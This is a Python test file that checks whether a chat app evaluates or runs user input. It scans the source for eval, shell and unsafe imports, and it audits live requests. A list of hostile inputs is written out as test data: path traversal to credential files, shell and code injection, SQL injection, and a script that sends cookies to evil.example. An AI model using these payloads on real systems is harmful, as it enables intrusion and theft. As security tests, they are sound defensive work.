"""Nothing a user types is evaluated, run or used as a path: a scan of the source and an audit of live requests."""

from __future__ import annotations

import ast
import sys
import threading
from pathlib import Path

import pytest
from helpers import REPO

from reviewqa.chat.api import ask_endpoint
from reviewqa.chat.turn import Settings, respond

SOURCES = sorted((REPO / "src" / "reviewqa").rglob("*.py")) + sorted((REPO / "app").glob("*.py"))
RUNS_CODE = {"eval", "exec", "compile", "__import__", "breakpoint"}
RUNS_PROGRAMS = {"system", "popen", "spawnl", "spawnv", "execv", "execve", "execl", "execvp", "posix_spawn", "fork"}
UNSAFE_MODULES = {"pickle", "marshal", "shelve", "dill", "subprocess", "ctypes", "code", "codeop", "pty"}
LOADS_CODE = {"import_module", "exec_module", "spec_from_file_location"}
# The only dynamic loading: the subcommand modules named in cli.main.COMMAND_MODULES.
ALLOWED = {
    ("src/reviewqa/cli/main.py", "import_module"),
    ("src/reviewqa/writing/quote.py", "format"),  # a literal label: "[^{}]:" or "[{}]"
    # the user's own $PAGER (no shell), only when both ends are a terminal, as `git log` does
    ("src/reviewqa/cli/pager.py", "import subprocess"),
    # the index build child's own error, checked to cross its queue (nothing read from outside)
    ("src/reviewqa/index/spawned_build.py", "import pickle"),
}


def _findings(path: Path, root: Path = REPO) -> set[tuple[str, str]]:
    found = set()
    for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
        if isinstance(node, ast.Call):
            func = node.func
            if isinstance(func, ast.Name) and func.id in RUNS_CODE:
                found.add(func.id)
            if isinstance(func, ast.Attribute):
                if func.attr in RUNS_PROGRAMS and isinstance(func.value, ast.Name) and func.value.id == "os":
                    found.add(f"os.{func.attr}")
                if func.attr in LOADS_CODE:
                    found.add(func.attr)
                if func.attr in {"format", "format_map"} and not isinstance(func.value, ast.Constant):
                    found.add("format")  # a format string that is not a literal could come from outside
            if any(k.arg == "shell" for k in node.keywords):
                found.add("shell=")
        elif isinstance(node, ast.Import | ast.ImportFrom):
            names = [a.name for a in node.names] if isinstance(node, ast.Import) else [node.module or ""]
            found.update(f"import {n}" for n in names if n.split(".")[0] in UNSAFE_MODULES)
    return {(path.relative_to(root).as_posix(), f) for f in found}


def test_source_evaluates_and_runs_nothing():
    findings = set().union(*(_findings(path) for path in SOURCES))
    assert findings == ALLOWED


def test_scan_sees_what_it_looks_for(tmp_path):
    sample = tmp_path / "sample.py"
    sample.write_text("import pickle, subprocess\nimport os\neval(x)\nos.system(y)\nz.format(1)\nrun(a, shell=True)\n")
    kinds = {kind for _, kind in _findings(sample, tmp_path)}
    assert kinds == {"import pickle", "import subprocess", "eval", "os.system", "format", "shell="}


ATTACKS = [
    "../../../../etc/passwd",
    "/etc/passwd",
    "file:///etc/shadow",
    "~/.ssh/id_rsa",
    "__import__('os').system('touch {pwned}')",
    "$(touch {pwned}) `touch {pwned}` ; touch {pwned} | touch {pwned}",
    "{{0.__class__.__mro__}} %s%s%n {pwned}",
    "'; DROP TABLE chunks; --",
    "define ../../../etc/passwd",
    "ref ../../etc/passwd",
    "<script>fetch('http://evil.example/'+document.cookie)</script>",
]
# Events of the interpreter's audit hooks that would mean a file, a program, code or the network was touched.
WATCHED = {"open", "os.system", "subprocess.Popen", "os.exec", "os.posix_spawn", "os.spawn", "os.fork", "exec"}
WATCHED |= {"compile", "socket.connect", "socket.getaddrinfo", "pickle.find_class", "marshal.loads", "os.remove"}


class Recorder:
    """An audit hook (hooks cannot be removed, so it records only while on, and only this thread's events)."""

    def __init__(self):
        self.events: list[tuple[str, str]] = []
        self.thread: int | None = None

    def __call__(self, event: str, args: tuple) -> None:
        if self.thread == threading.get_ident() and event in WATCHED:
            self.events.append((event, repr(args)[:200]))


@pytest.fixture(scope="module")
def recorder():
    recorder = Recorder()
    sys.addaudithook(recorder)
    return recorder


def test_requests_touch_no_file_program_code_or_network(recorder, fake_assistant, tmp_path):
    pwned = tmp_path / "pwned"
    attacks = [attack.format(pwned=pwned) for attack in ATTACKS]
    ask = ask_endpoint(fake_assistant)
    previous = "How do CAFs block drug delivery?"

    def serve_all() -> None:
        for attack in attacks:
            respond(fake_assistant, attack, previous)
            respond(fake_assistant, "x", settings=Settings(kinds=(attack,), sections=(attack,)))
            ask(attack)
            ask("CAFs", attack, attack, [attack], [attack])

    serve_all()  # first use: lazily imported modules and data files are loaded here
    recorder.thread = threading.get_ident()
    try:
        serve_all()
    finally:
        recorder.thread = None
    assert recorder.events == []
    assert not pwned.exists()


def test_recorder_sees_a_file_being_opened(recorder, tmp_path):
    recorder.thread = threading.get_ident()
    try:
        (tmp_path / "probe").write_text("x")
    finally:
        recorder.thread = None
    assert [event for event, _ in recorder.events] == ["open"]
    recorder.events.clear()
